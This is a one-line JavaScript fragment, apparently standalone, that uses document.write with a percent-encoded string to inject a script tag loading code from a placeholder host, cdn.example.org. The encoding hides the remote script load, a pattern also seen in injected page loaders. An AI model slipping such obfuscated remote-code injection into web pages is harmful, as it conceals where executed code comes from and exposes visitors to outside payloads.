document.write(unescape('%3Cscript%20src%3D%22https%3A//cdn.example.org/x.js%22%3E%3C/script%3E'));
